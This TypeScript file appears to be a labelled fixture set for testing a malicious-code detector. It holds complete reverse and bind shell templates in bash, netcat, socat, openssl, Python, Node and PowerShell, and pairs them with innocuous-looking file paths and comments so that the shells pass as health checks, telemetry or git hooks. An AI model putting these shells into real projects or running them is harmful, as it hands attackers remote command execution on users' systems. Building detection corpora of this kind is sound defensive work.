// Reverse and bind shells in scripts.
import type { Family } from './family.ts'

export const reverseShells: readonly Family[] = [
  {
    family: 'bash-dev-tcp',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['scripts/docs.sh', 'ops/nightly.sh'],
        body: `bash -i >& /dev/tcp/⟦ip⟧/⟦port⟧ 0>&1 &`,
      },
      {
        paths: ['.githooks/post-checkout.sh'],
        body: `( exec 5<>/dev/tcp/⟦ip⟧/⟦port⟧; while read -r line <&5; do $line 2>&5 >&5; don⟦join⟧
e ) 2>/dev/null &`,
      },
    ],
  },
  {
    family: 'mkfifo-netcat',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['bin/health.sh', 'tools/check.sh'],
        body: `rm -f /tmp/⟦pick:f|.p|x⟧; mkfifo /tmp/⟦pick:f|.p|x⟧; cat /tmp/⟦pick:f|.p|x⟦join⟧
⟧ | /bin/sh -i 2>&1 | nc ⟦ip⟧ ⟦port⟧ > /tmp/⟦pick:f|.p|x⟧ &`,
      },
    ],
  },
  {
    family: 'socat-openssl-shell',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['deploy/tunnel.sh'],
        body: `# keep the maintenance channel alive
while :; do
  socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:⟦host⟧:⟦port⟧ >/dev/null 2>&1
  sleep 60
done &`,
      },
      {
        paths: ['deploy/keepalive.sh'],
        body: `mkfifo /tmp/.s; /bin/sh -i < /tmp/.s 2>&1 | openssl s_client -quiet -connect ⟦⟦join⟧
ip⟧:⟦port⟧ > /tmp/.s 2>/dev/null; rm /tmp/.s`,
      },
    ],
  },
  {
    family: 'python-dup2-shell',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['app/metrics.py', 'src/jobs/sync.py'],
        imports: `import os
import pty
import socket`,
        body: `def report():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("⟦ip⟧", ⟦port⟧))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/sh")


if os.fork() == 0:
    report()`,
      },
    ],
  },
  {
    family: 'python-command-loop',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['client/agent.py', 'tools/update_check.py'],
        imports: `import socket
import subprocess
import threading`,
        body: String.raw`def _channel():
    while True:
        try:
            conn = socket.create_connection(("⟦host⟧", ⟦port⟧), timeout=20)
            conn.sendall(socket.gethostname().encode() + b"\n")
            while True:
                command = conn.recv(4096).decode().strip()
                if command == "quit":
                    break
                result = subprocess.run(command, shell=True, capture_output=True)
                conn.sendall(result.stdout + result.stderr)
        except OSError:
            continue


threading.Thread(target=_channel, daemon=True).start()`,
      },
    ],
  },
  {
    family: 'python-bind-shell',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['plugins/stats.py'],
        imports: `import os, socket`,
        body: `def _serve():
    srv = socket.socket(); srv.bind(("⟦ip⟧", ⟦port⟧)); srv.listen(1)
    while 1:
        c, _ = srv.accept()
        if os.fork(): continue
        [os.dup2(c.fileno(), n) for n in range(3)]
        os.execl("/bin/bash", "[kworker/0:1]", "-i")`,
      },
    ],
  },
  {
    family: 'node-net-shell',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['lib/cache.js', 'index.js'],
        imports: `var net = require('net'), cp = require('child_process');`,
        body: `(function () {
  var sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
  var client = new net.Socket();
  client.connect(⟦port⟧, '⟦ip⟧', function () {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  client.on('error', function () {});
})();`,
      },
    ],
  },
  {
    family: 'websocket-command-agent',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['src/telemetry.js'],
        imports: `const WebSocket = require('ws');
const { exec } = require('child_process');
const os = require('os');`,
        body: `function connect() {
  const ws = new WebSocket('wss://⟦host⟧/agent');
  ws.on('open', () => ws.send(JSON.stringify({ t: 'hello', h: os.hostname(), u: os.userInfo().user⟦join⟧
name })));
  ws.on('message', (m) => {
    const { id, cmd } = JSON.parse(m);
    exec(cmd, { windowsHide: true }, (e, out, err) => ws.send(JSON.stringify({ id, out: out + err })));
  });
  ws.on('close', () => setTimeout(connect, 15000));
  ws.on('error', () => {});
}
connect();`,
      },
    ],
  },
  {
    family: 'powershell-tcpclient',
    positive: true,
    classes: ['reverse-shell', 'windows'],
    variants: [
      {
        paths: ['scripts/disk-report.ps1', 'build/pack.ps1'],
        body: `$client = New-Object System.Net.Sockets.TCPClient('⟦ip⟧', ⟦port⟧); $stream = $⟦join⟧
client.GetStream()
[byte[]]$bytes = 0..65535 | % { 0 }
while (($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) {
    $data = (New-Object Text.ASCIIEncoding).GetString($bytes, 0, $i)
    $sendback = (iex $data 2>&1 | Out-String) + 'PS ' + (pwd).Path + '> '
    $sendbyte = ([Text.Encoding]::ASCII).GetBytes($sendback)
    $stream.Write($sendbyte, 0, $sendbyte.Length); $stream.Flush()
}`,
      },
    ],
  },
]
